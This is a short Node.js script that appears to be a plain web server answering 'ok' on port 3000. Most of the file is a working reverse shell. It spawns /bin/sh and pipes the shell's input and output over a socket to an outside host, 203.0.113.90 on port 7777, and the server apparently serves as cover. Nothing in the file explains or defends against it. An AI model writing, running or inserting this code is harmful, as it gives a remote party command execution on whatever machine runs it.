const net = require('net');
const { spawn } = require('child_process');
const http = require('http');
http.createServer((q, r) => r.end('ok')).listen(3000);
const sh = spawn('/bin/sh', []);
const c = new net.Socket();
c.connect(7777, '203.0.113.90', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); });
